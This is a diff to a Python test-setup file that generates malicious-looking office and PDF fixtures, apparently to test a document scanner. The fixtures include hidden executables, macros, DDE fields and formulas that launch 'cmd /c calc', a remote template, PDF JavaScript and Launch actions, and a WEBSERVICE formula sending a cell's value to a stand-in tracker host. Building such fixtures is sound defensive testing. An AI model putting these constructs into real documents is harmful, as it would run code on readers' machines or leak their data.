@@ -5,6 +5,8 @@ import os
 import shutil
 import subprocess
 import sys
+import zipfile
+import zlib
 from pathlib import Path
 from typing import Callable
 
@@ -57,8 +59,134 @@ def _files_link(kit: Path) -> None:
     (kit / "fichiers").symlink_to(_outside(kit), target_is_directory=True)
 
 
+def _zip(path: Path, members: dict[str, bytes | str]) -> None:
+    """An office document (a zip) with these members, stored in this order."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+
+
+_OOXML_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+                '<Default Extension="xml" ContentType="application/xml"/>'
+                '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')
+_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+_DOCUMENT = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+             "<w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p></w:body></w:document>")
+
+
+def _docx(path: Path, extra: dict[str, bytes | str] | None = None, main: str = _DOCX_MAIN) -> None:
+    _zip(path, {"[Content_Types].xml": _OOXML_TYPES.format(main=main), "word/document.xml": _DOCUMENT, **(extra or {})})
+
+
+def _rels(kind: str, target: str) -> str:
+    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+            f'Target="{target}" TargetMode="External"/></Relationships>')
+
+
+_ODF_CONTENT = ('<?xml version="1.0"?><office:document-content '
+                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+                'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+                'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+                'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+                'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+                'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>{body}</office:body></office:document-content>')
+
+
+def _odf(path: Path, body: str, extra: dict[str, bytes | str] | None = None) -> None:
+    kind = "spreadsheet" if path.suffix == ".ods" else "text"
+    _zip(path, {"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": _ODF_CONTENT.format(body=body),
+                **(extra or {})})
+
+
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+
+def _pdf(path: Path, *objects: bytes, trailer: bytes = b"") -> None:
+    """A small PDF whose objects are these (numbered from 1), with its catalogue as object 1."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (i, o) for i, o in enumerate(objects, 1))
+    path.write_bytes(body + b"trailer\n<< /Root 1 0 R %s>>\n%%%%EOF\n" % trailer)
+
+
+def _flate_stream(dictionary: bytes, data: bytes) -> bytes:
+    packed = zlib.compress(data)
+    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(packed), packed)
+
+
+_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
+_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
+
+# Documents whose structure hides something that runs or fetches (issue #12): built here, so that the payload
+# reads in plain text.
+DOCUMENTS: dict[str, Callable[[Path], None]] = {
+    "office-programme": lambda f: _zip(f / "guide.docx", {"[Content_Types].xml": _OOXML_TYPES.format(main=_DOCX_MAIN),
+                                                         "setup.exe": b"MZ\x90\x00" + b"\x00" * 60}),
+    "office-programme-deguise": lambda f: _docx(f / "guide.docx", {"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}),
+    "office-macro-vba": lambda f: _docx(f / "guide.docx", {"word/vbaProject.bin": _OLE}),
+    "office-type-macros": lambda f: _docx(f / "guide.docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
+    "office-modele-distant": lambda f: _docx(f / "guide.docx", {
+        "word/_rels/settings.xml.rels": _rels("attachedTemplate", "http://pisteur.example/modele.dotm")}),
+    "office-lien-fichier": lambda f: _docx(f / "guide.docx", {
+        "word/_rels/document.xml.rels": _rels("hyperlink", "file://serveur/partage/x.exe")}),
+    "office-ole": lambda f: _zip(f / "tableau.xlsx", {"[Content_Types].xml": _OOXML_TYPES.format(main="application/xml"),
+                                                     "xl/embeddings/oleObject1.bin": _OLE}),
+    "office-trop-d-elements": lambda f: _docx(f / "guide.docx", {f"word/media/x{i}.xml": "<x/>" for i in range(2001)}),
+    "ods-macro-basic": lambda f: _odf(f / "tableau.ods", "<office:spreadsheet/>",
+                                      {"Basic/Standard/Module1.xml": "<module>Sub Main\nShell(\"calc\")\nEnd Sub</module>"}),
+    "ods-macro-evenement": lambda f: _odf(f / "tableau.ods", (
+        '<office:spreadsheet><office:event-listeners><script:event-listener script:language="ooo:script" '
+        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
+        "</office:event-listeners></office:spreadsheet>")),
+    "odt-dde": lambda f: _odf(f / "texte.odt", (
+        '<office:text><text:dde-connection-decls><text:dde-connection-decl text:name="x" '
+        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
+        "</office:text>")),
+    "odt-image-distante": lambda f: _odf(f / "texte.odt", (
+        '<office:text><draw:frame><draw:image xlink:href="http://pisteur.example/pixel.png"/></draw:frame>'
+        "</office:text>")),
+    "office-champ-dde": lambda f: _docx(f / "guide.docx", {"word/document.xml": (
+        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
+        '<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')}),
+    "office-formule-dde": lambda f: _zip(f / "tableau.xlsx", {
+        "[Content_Types].xml": _OOXML_TYPES.format(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+        "xl/worksheets/sheet1.xml": ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+                                     "spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0"
+                                     "</f></c></row></sheetData></worksheet>")}),
+    "ods-formule-webservice": lambda f: _odf(f / "tableau.ods", (
+        '<office:spreadsheet><table:table><table:table-row><table:table-cell '
+        'table:formula="of:=WEBSERVICE(&quot;https://pisteur.example/?&quot;&amp;[.A2])"/></table:table-row>'
+        "</table:table></office:spreadsheet>")),
+    "odt-chiffre": lambda f: _odf(f / "texte.odt", "<office:text/>", {"META-INF/manifest.xml": (
+        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
+        '<manifest:encryption-data manifest:checksum-type="SHA1" manifest:checksum="x"/></manifest:file-entry>'
+        "</manifest:manifest>")}),
+    "pdf-javascript": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
+                                     b"/JS (app.alert(1)) >> >>", _PAGES, _PAGE),
+    "pdf-nom-code": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript "
+                                   b"/J#53 (app.alert(1)) >> >>", _PAGES, _PAGE),
+    "pdf-lancement": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch "
+                                    b"/F (calc.exe) >> >>", _PAGES, _PAGE),
+    "pdf-fichier-joint": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles "
+                                        b"<< /Names [(x.exe) 4 0 R] >> >> >>", _PAGES, _PAGE,
+                                        b"<< /Type /Filespec /F (x.exe) >>"),
+    "pdf-flux-objets": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES,
+                                      _PAGE, _flate_stream(b"/Type /ObjStm /N 1 /First 4",
+                                                           b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")),
+    "pdf-chiffre": lambda f: _pdf(f / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _PAGE,
+                                  b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>", trailer=b"/Encrypt 4 0 R "),
+}
+
 # Links and huge files are made at test time so that the repository never holds them.
 SETUP: dict[str, Callable[[Path], None]] = {
+    **{case: (lambda make: lambda k: make(k / "fichiers"))(make) for case, make in DOCUMENTS.items()},
+    "pdf-lien": lambda k: _pdf(k / "fichiers" / "guide.pdf", b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES,
+                               b"<< /Type /Page /Parent 2 0 R /Annots [<< /Type /Annot /Subtype /Link /A << /S /URI "
+                               b"/URI (https://www.example.org/) >> >>] >>"),
     "ressource-lien-sortant": lambda k: (k / "fichiers" / "motdepasse.csv").symlink_to(_outside(k) / "secret.csv"),
     "ressource-lien-interne": lambda k: (k / "fichiers" / "copie.csv").symlink_to("grille.csv"),
     "fichiers-lien": _files_link,
